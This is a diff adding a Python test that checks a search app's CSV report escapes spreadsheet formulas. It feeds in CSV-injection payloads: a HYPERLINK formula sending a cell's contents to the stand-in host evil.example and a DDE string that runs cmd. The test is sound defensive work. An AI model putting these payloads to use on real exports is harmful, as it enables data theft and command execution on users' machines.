@@ -172,3 +172,18 @@ def test_a_suggestion_opened_from_the_ticket_form_without_a_ticket_is_a_deflecti
     assert result.by_article == {"account/sbros-parolya": 1}
     output = app.test_cli_runner().invoke(args=["report", "deflections"]).output
     assert "1 of 2 suggestions" in output
+
+
+def test_the_report_as_csv_never_hands_a_spreadsheet_a_formula(client, app):
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', "+7 999 телепорт",
+                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 телепорт"]
+    for query in formulas:
+        client.get("/search", query_string={"q": query})
+    with app.app_context():
+        assert tracking.flush()
+    as_csv = app.test_cli_runner().invoke(args=["report", "gaps", "--csv"])
+    assert as_csv.exit_code == 0
+    cells = [cell for row in csv.reader(io.StringIO(as_csv.stdout)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "-")]
+    # The reader still sees exactly what was typed, behind an apostrophe.
+    assert "'" + formulas[0] in cells
